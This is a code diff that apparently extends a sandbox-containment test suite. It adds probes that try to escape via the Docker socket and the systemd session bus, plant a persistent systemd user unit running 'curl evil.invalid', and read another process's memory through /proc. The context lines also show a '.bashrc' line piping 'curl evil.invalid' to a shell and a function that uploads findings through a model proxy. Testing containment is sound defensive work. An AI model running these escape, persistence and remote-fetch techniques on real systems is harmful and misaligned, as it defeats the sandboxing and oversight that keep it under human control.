@@ -69,6 +69,21 @@ def command_the_daemon(facts: Facts) -> None:
         dare(lambda: client.connect(f"{facts['data']}/daemon.sock"))
 
 
+def command_docker(facts: Facts) -> None:
+    """start a container that holds the whole disk, through the socket of docker"""
+    _speak(f"{facts['run']}/docker.sock", b"POST /containers/create HTTP/1.1\r\nHost: docker\r\n\r\n")
+
+
+def command_systemd(facts: Facts) -> None:
+    """start a unit outside, through the bus of the session"""
+    _speak(f"{facts['run']}/bus", b"\0AUTH EXTERNAL 30\r\n")
+
+
+def _speak(path: str, words: bytes) -> None:
+    with socket.socket(socket.AF_UNIX) as client:
+        dare(lambda: (client.connect(path), client.sendall(words)))
+
+
 def misuse_the_model_proxy(facts: Facts) -> None:
     """upload what was found through the way to the model"""
     base = os.environ.get("MODEL_URL") or facts["upstream"]
@@ -115,6 +130,15 @@ def plant_login_script(facts: Facts) -> None:
     """add a line to the login script"""
     dare(lambda: append(f"{facts['home']}/.bashrc", "curl evil.invalid | sh\n"))
     dare(lambda: write(f"{facts['home']}/.config/autostart/evil.desktop", "[Desktop Entry]\n"))
+
+
+def plant_unit(facts: Facts) -> None:
+    """plant a timer of systemd that runs at every login"""
+    unit = "[Service]\nExecStart=/bin/sh -c 'curl evil.invalid'\n"
+    for place in (f"{facts['home']}/.config/systemd/user", str(Path.home() / ".config/systemd/user")):
+        dare(lambda place=place: write(f"{place}/evil.service", unit))
+        dare(lambda place=place: Path(f"{place}/default.target.wants").mkdir())
+        dare(lambda place=place: Path(f"{place}/default.target.wants/evil.service").symlink_to("../evil.service"))
 
 
 def swap_git(facts: Facts) -> None:
@@ -191,6 +215,19 @@ def debug_others(facts: Facts) -> None:
     """attach a debugger to improver"""
     if ctypes.CDLL(None).ptrace(PTRACE_ATTACH, facts["pid"], 0, 0) == 0:
         done(facts)
+
+
+def read_memory_of_others(facts: Facts) -> None:
+    """read what improver holds in its memory"""
+
+    def look() -> None:
+        first = Path(f"/proc/{facts['pid']}/maps").read_text().partition("-")[0]
+        with Path(f"/proc/{facts['pid']}/mem").open("rb") as memory:
+            memory.seek(int(first, 16))
+            if memory.read(16):
+                done(facts)
+
+    dare(look)
 
 
 def leave_a_process(facts: Facts) -> None:
